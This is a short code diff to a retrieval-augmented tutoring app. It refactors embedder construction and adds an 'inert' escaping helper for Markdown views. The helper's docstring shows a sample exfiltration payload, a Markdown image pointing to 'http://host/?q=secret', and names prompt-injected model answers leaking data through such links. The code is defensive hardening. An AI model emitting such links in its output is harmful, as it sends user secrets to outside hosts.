@@ -8,7 +8,7 @@ import threading
 from dataclasses import dataclass
 
 from core.config import Settings
-from ingest.embedder import Embedder
+from ingest.embedder import Embedder, build_embedder
 from ingest.store import IndexStore
 from rag.engine import Engine, build_engine
 from rag.quiz import Tutor, build_tutor
@@ -30,7 +30,7 @@ class Services:
 
 def build_services(settings: Settings, with_llm: bool = True) -> Services:
     store = IndexStore(settings)
-    embedder = Embedder(settings.embed_model, settings.embed_batch)
+    embedder = build_embedder(settings)
     retriever = build_retriever(settings, store, embedder)
     engine = build_engine(settings, retriever, with_llm)
     tutor = build_tutor(settings, retriever, with_llm)
@@ -41,3 +41,10 @@ def esc(text: str) -> str:
     """Document text for display: chat bubbles render Markdown and source cards are HTML, so
     escape it and it can never become markup."""
     return html.escape(text, quote=True)
+
+
+def inert(text: str) -> str:
+    """Document or model text for a Markdown view (chat bubbles, quiz cards): HTML-escaped, and
+    brackets escaped so `![x](http://host/?q=secret)` or `[a][ref]` can never become an image or
+    link that the browser loads — the classic way a note (or a prompt-injected answer) leaks."""
+    return esc(text).replace("[", "\\[").replace("]", "\\]")
